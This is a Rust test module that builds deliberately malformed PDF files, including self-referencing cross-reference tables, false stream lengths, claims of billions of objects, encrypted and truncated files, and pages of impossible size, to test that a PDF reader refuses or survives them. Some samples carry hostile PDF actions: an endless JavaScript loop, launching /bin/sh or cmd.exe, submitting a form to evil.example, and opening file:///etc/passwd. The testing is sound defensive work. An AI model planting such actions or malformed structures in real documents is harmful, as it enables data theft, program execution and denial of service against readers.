//! PDF files whose structure lies or is not there: tables of objects, lengths, keys, actions.

use super::Expected::{Anything, Read, Refused};
use super::pack::zlib;
use super::papers::{CATALOG, FONT, PAGE, PAGES, WORDS, drawn, paper, pdf, pdf_with, stream, worded};
use super::{Hostile, file};

pub(super) fn files() -> Vec<Hostile> {
    let mut files = tables();
    files.extend(lies());
    files
}

pub(super) fn words() -> Vec<u8> {
    stream("", drawn(WORDS).as_bytes())
}

pub(super) fn with_page(page: &str) -> Vec<u8> {
    pdf(&[CATALOG.into(), PAGES.into(), page.into(), words(), FONT.into()])
}

pub(super) fn with_pages(pages: &str) -> Vec<u8> {
    pdf(&[CATALOG.into(), pages.into(), PAGE.into(), words(), FONT.into()])
}

/// The table of where objects stand, in both of its forms.
fn tables() -> Vec<Hostile> {
    let ending = |end: String| [pdf(&paper(words(), &[])), end.into_bytes()].concat();
    let table = |entries: &str, data: &[u8]| {
        let body =
            [b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n7 0 obj\n".to_vec(), stream(entries, data)].concat();
        let start = 9 + b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n".len();
        [b"%PDF-1.7\n".to_vec(), body, format!("\nendobj\nstartxref\n{start}\n%%EOF").into_bytes()].concat()
    };
    vec![
        file("widths-of-zero.pdf", Refused(""), move || {
            table("/Type/XRef/Size 2000000000/W[0 0 0]/Index[0 2000000000]/Root 1 0 R", b"")
        })
        .heavy(),
        file("widths-of-billions.pdf", Refused(""), move || {
            table("/Type/XRef/Size 3/W[2147483647 2147483647 2147483647]/Root 1 0 R", b"x")
        })
        .heavy(),
        file("widths-below-zero.pdf", Refused(""), move || {
            table("/Type/XRef/Size 3/W[-1 -1 -1]/Index[-5 -5]/Root 1 0 R", b"x")
        })
        .heavy(),
        file("previous-is-itself.pdf", Anything, move || {
            let bytes = ending(String::new());
            let at = bytes.len();
            let end = format!("xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 6/Root 1 0 R/Prev {at}>>\nstartxref\n{at}\n%%EOF\n");
            [bytes, end.into_bytes()].concat()
        })
        .heavy(),
        file("previous-in-a-ring.pdf", Anything, || {
            let mut out = b"%PDF-1.4\n1 0 obj\n<</Type/Catalog>>\nendobj\n".to_vec();
            let (one, two) = (out.len(), out.len() + 72);
            for other in [two, one] {
                out.extend(format!("{:<72}", format!("xref\n0 1\n0000000000 65535 f \ntrailer\n<</Root 1 0 R/Prev {other}>>\n")).bytes());
            }
            [out, format!("startxref\n{one}\n%%EOF").into_bytes()].concat()
        })
        .heavy(),
        file("both-tables-of-itself.pdf", Anything, move || {
            table("/Type/XRef/Size 8/W[1 2 1]/Root 1 0 R/Prev 54/XRefStm 54", &[1, 0, 9, 0])
        })
        .heavy(),
        file("claims-two-billion-objects.pdf", Anything, move || {
            ending("xref\n0 2000000000\n0000000000 65535 f \ntrailer\n<</Size 2000000000/Root 1 0 R>>\nstartxref\n0\n%%EOF".into())
        })
        .heavy(),
        file("object-stream-in-itself.pdf", Refused(""), || {
            let inner = stream("/Type/ObjStm/N 2/First 8/Extends 6 0 R", b"6 0 1 0 <</Type/Catalog/Pages 2 0 R>>");
            let entries = [1_u8, 0, 0, 0, 2, 0, 6, 0, 2, 0, 6, 1];
            let at = 9 + 8 + inner.len() + 8;
            let table = stream("/Type/XRef/Size 9/W[1 2 1]/Index[0 1 1 1 6 1]/Root 1 0 R", &entries);
            [b"%PDF-1.7\n6 0 obj\n".to_vec(), inner, b"\nendobj\n7 0 obj\n".to_vec(), table, format!("\nendobj\nstartxref\n{at}\n%%EOF").into()].concat()
        })
        .heavy(),
        file("object-stream-of-a-billion.pdf", Anything, || {
            worded("", &[stream("/Type/ObjStm/N 1000000000/First 1000000000", b"1 0 2 0")])
        })
        .heavy(),
        file("no-table.pdf", Anything, || {
            let bytes = pdf(&paper(words(), &[]));
            let end = bytes.windows(5).position(|window| window == b"xref\n").unwrap();
            bytes[..end].to_vec()
        })
        .heavy(),
        file("table-elsewhere.pdf", Anything, move || ending("startxref\n99999999999999999999\n%%EOF".into())).heavy(),
    ]
}

fn lies() -> Vec<Hostile> {
    let length = |claimed: &str| {
        let content = format!("<</Length {claimed}>>\nstream\n{}\nendstream", drawn(WORDS));
        pdf(&paper(content.into_bytes(), &[]))
    };
    let locked = "/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<0011223344556677889900112233445566778899001122334455667788990011>\
                  /U<0011223344556677889900112233445566778899001122334455667788990011>>>/ID[<00><00>]";
    let action = |action: &str| format!("<</Type/Catalog/Pages 2 0 R/OpenAction<<{action}>>/AA<</WC<<{action}>>>>>>");
    let acting =
        move |what: &'static str| move || pdf(&[action(what).into(), PAGES.into(), PAGE.into(), words(), FONT.into()]);
    vec![
        file("length-of-exabytes.pdf", Anything, move || length("9223372036854775807")).heavy(),
        file("length-below-zero.pdf", Anything, move || length("-5")).heavy(),
        file("length-too-short.pdf", Anything, move || length("3")).heavy(),
        file("length-of-nonsense.pdf", Anything, move || length("/Nonsense")).heavy(),
        file("locked.pdf", Refused("password"), move || pdf_with(&paper(words(), &[]), locked)),
        file("locked-oddly.pdf", Refused(""), || {
            pdf_with(&paper(words(), &[]), "/Encrypt<</Filter/Standard/V 99/R 99>>/ID[<00><00>]")
        }),
        file("broken-header.pdf", Anything, || {
            [b"%PDF-9.9junk\x00\xff\n".to_vec(), pdf(&paper(words(), &[]))[9..].to_vec()].concat()
        })
        .heavy(),
        file("only-a-header.pdf", Refused("damaged"), || b"%PDF-1.7\n".to_vec()),
        file("header-and-noise.pdf", Refused("damaged"), || {
            let noise = (0..100_000_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8);
            b"%PDF-1.7\n".iter().copied().chain(noise).collect::<Vec<u8>>()
        }),
        file("truncated.pdf", Anything, || {
            let bytes = pdf(&paper(words(), &[]));
            bytes[..bytes.len() * 2 / 3].to_vec()
        })
        .heavy(),
        file("half-a-stream.pdf", Anything, || {
            let packed = zlib(drawn(WORDS).repeat(50).as_bytes());
            pdf(&paper(stream("/Filter/FlateDecode", &packed[..packed.len() / 2]), &[]))
        })
        .heavy(),
        file("unknown-filter.pdf", Anything, || pdf(&paper(stream("/Filter/RemoveHead", b"abc"), &[]))).heavy(),
        file("runs-a-script.pdf", Read("Refunds"), acting("/S/JavaScript/JS(app.alert('x'); while(1){})")),
        file("launches-a-program.pdf", Read("Refunds"), acting("/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>")),
        file("sends-a-form.pdf", Read("Refunds"), acting("/S/SubmitForm/F(https://evil.example/take)")),
        file("opens-an-address.pdf", Read("Refunds"), acting("/S/URI/URI(file:///etc/passwd)")),
        file("only-a-picture.pdf", Refused("pictures of text"), || {
            let picture = "/Type/XObject/Subtype/Image/Width 4/Height 4/BitsPerComponent 8/ColorSpace/DeviceGray";
            pdf(&paper(stream("", b"q 500 0 0 700 50 50 cm /X Do Q"), &[stream(picture, &[9; 16])]))
        }),
        file("empty-pages.pdf", Anything, || pdf(&paper(stream("", b""), &[]))),
        file("no-pages.pdf", Refused(""), || with_pages("<</Type/Pages/Kids[]/Count 0>>")),
        file("hidden-words.pdf", Anything, || {
            worded("BT 3 Tr /F 12 Tf 50 500 Td (unseen words) Tj ET BT 0 Tr /F 0.1 Tf 50 400 Td (tiny words) Tj ET", &[])
        }),
        file("page-of-no-size.pdf", Anything, || {
            with_page("<</Type/Page/Parent 2 0 R/MediaBox[0 0 0 0]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>")
        })
        .heavy(),
        file("page-of-astronomic-size.pdf", Anything, || {
            with_page("<</Type/Page/Parent 2 0 R/MediaBox[-1e38 -1e38 1e38 1e38]/UserUnit 1e30/Rotate 37/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>")
        })
        .heavy(),
        file("words-at-no-place.pdf", Anything, || {
            worded("BT /F 1e38 Tf 1e38 0 0 1e38 1e38 1e38 Tm (far away) Tj 99999999999999999999999 Tz (x) Tj ET", &[])
        })
        .heavy(),
        file("two-heads.pdf", Anything, || [b"%PDF-1.1\n".to_vec(), worded("", &[])].concat()).heavy(),
    ]
}
